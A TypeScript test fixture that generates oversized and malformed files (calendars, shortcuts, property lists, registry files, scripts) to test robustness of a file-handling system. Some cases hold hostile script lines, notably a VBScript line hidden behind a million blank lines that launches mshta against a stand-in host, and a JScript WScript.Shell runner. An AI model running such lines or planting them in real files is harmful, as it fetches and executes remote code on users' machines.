import { writeProgram } from "../../corpus/builders/programs.ts";
import type { SentCase } from "./sent-case.ts";

const event = "BEGIN:VEVENT\r\nUID:1@a.example\r\nDTSTART:20261125T140000Z\r\nSUMMARY:a\r\n";

/** Calendars, settings, scripts and other texts that are too much. */
export const textsSent: readonly SentCase[] = (
  [
    [
      "a calendar of 200,000 events",
      "a.ics",
      () => `BEGIN:VCALENDAR\r\n${`${event}END:VEVENT\r\n`.repeat(200_000)}END:VCALENDAR`,
    ],
    ["events within events, 100,000 deep", "a.ics", () => `BEGIN:VCALENDAR\r\n${"BEGIN:VEVENT\r\n".repeat(100_000)}`],
    [
      "an invitation of 100,000 people",
      "a.ics",
      () =>
        `BEGIN:VCALENDAR\r\n${event}${"ATTENDEE;CN=a:mailto:a@a.example\r\n".repeat(100_000)}END:VEVENT\r\nEND:VCALENDAR`,
    ],
    [
      "a line of an invitation that is folded 500,000 times",
      "a.ics",
      () => `BEGIN:VCALENDAR\r\n${event}DESCRIPTION:${"a\r\n ".repeat(500_000)}`,
    ],
    [
      "an attachment of an invitation that is no base64",
      "a.ics",
      () => `BEGIN:VCALENDAR\r\n${event}ATTACH;ENCODING=BASE64;VALUE=BINARY:${"!".repeat(1_000_000)}\r\nEND:VEVENT`,
    ],
    [
      "an internet shortcut of 100,000 lines",
      "a.url",
      () => `[InternetShortcut]\r\n${"URL=file://192.0.2.1/a\r\n".repeat(100_000)}`,
    ],
    [
      "a property list 100,000 deep",
      "a.webloc",
      () => `<plist version="1.0">${"<dict><key>URL</key>".repeat(100_000)}`,
    ],
    [
      "a binary property list whose objects hold themselves",
      "a.webloc",
      () =>
        Buffer.concat([
          Buffer.from("bplist00"),
          Buffer.from("a100a100", "hex"),
          Buffer.from("080a", "hex"),
          Buffer.from("0000000000000101000000000000000200000000000000000000000000000000c", "hex"),
        ]),
    ],
    [
      "a binary property list of 4,000,000,000 objects",
      "a.webloc",
      () =>
        Buffer.concat([
          Buffer.from("bplist00d1"),
          Buffer.alloc(8),
          Buffer.from("0000000000000808ffffffffffffffff0000000000000000000000000000000a", "hex"),
        ]),
    ],
    [
      "a script of 20 MB in one line",
      "a.js",
      () => `var a="${"x".repeat(20_000_000)}";new ActiveXObject("WScript.Shell").Run(a);`,
    ],
    [
      "a script behind 1,000,000 empty lines",
      "a.vbs",
      () => `'a\r\n${"\r\n".repeat(1_000_000)}CreateObject("WScript.Shell").Run "mshta https://a.example/"`,
    ],
    ["500,000 brackets", "a.ps1", () => "(".repeat(500_000)],
    ["1,000,000 carets", "a.bat", () => `cmd /c ${"^".repeat(1_000_000)}`],
    ["a page of HTML that is a program", "a.html", () => writeProgram("windows")],
    [
      "registry settings of 200,000 keys",
      "a.reg",
      () =>
        `Windows Registry Editor Version 5.00\r\n${'[HKEY_CURRENT_USER\\Software\\a]\r\n"a"=hex(2):41,00,\\\r\n'.repeat(200_000)}`,
    ],
    ["a desktop entry of one endless line", "a.desktop", () => `[Desktop Entry]\nExec=${"sh -c ".repeat(400_000)}`],
    [
      "a scrap of every format's head",
      "a.bin",
      () =>
        Buffer.concat(
          [
            "504b0304",
            "d0cf11e0a1b11ae1",
            "25504446",
            "4c000000",
            "789f3e22",
            "e4525c7b8cd8a74d",
            "377abcaf271c",
            "526172211a07",
            "1f8b08",
          ].map((head) => Buffer.from(head, "hex")),
        ),
    ],
  ] as readonly (readonly [string, string, () => Buffer | string])[]
).map(([name, as, make]): SentCase => ({ name, as, make }));
